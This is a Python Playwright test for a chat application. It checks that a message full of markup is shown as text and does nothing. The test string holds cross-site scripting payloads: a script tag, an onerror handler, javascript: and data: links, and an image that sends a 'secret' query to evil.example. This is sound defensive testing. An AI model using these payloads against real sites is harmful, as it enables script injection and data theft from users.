"""Nothing anybody writes can run or leave."""

from __future__ import annotations

from typing import TYPE_CHECKING

from playwright.sync_api import expect

if TYPE_CHECKING:
    from playwright.sync_api import Page, Request

    from tests.browser.office_server import OfficeServer

HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
<style>body{display:none}</style><iframe src="https://evil.example"></iframe>

![pixel](https://evil.example/p.png?q=secret) [link](javascript:window.hacked=1)
[data](data:text/html,<script>window.hacked=1</script>)
"""


def test_hostile_text_is_shown_and_does_nothing(ada: Page, office: OfficeServer) -> None:
    """Markup in a message neither runs, nor styles the page, nor asks another host for anything.

    Demanded by: PLAT-5, PLAT-11.
    """
    asked: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((office.base, "data:")):
            asked.append(request.url)

    ada.on("request", note)
    ada.goto(f"{office.base}/o/landing-page/channels/general")
    ada.get_by_role("textbox", name="Message #general").fill(HOSTILE)
    ada.keyboard.press("Enter")
    message = ada.get_by_role("article").filter(has_text="pixel").last
    expect(message).to_contain_text("not loaded from evil.example")
    message.get_by_text("link", exact=True).click()
    message.get_by_text("data", exact=True).click()

    assert ada.evaluate("window.hacked") is None
    assert message.locator("script, style, iframe, img").count() == 0
    assert asked == []
    expect(ada.get_by_role("heading", name="general")).to_be_visible()
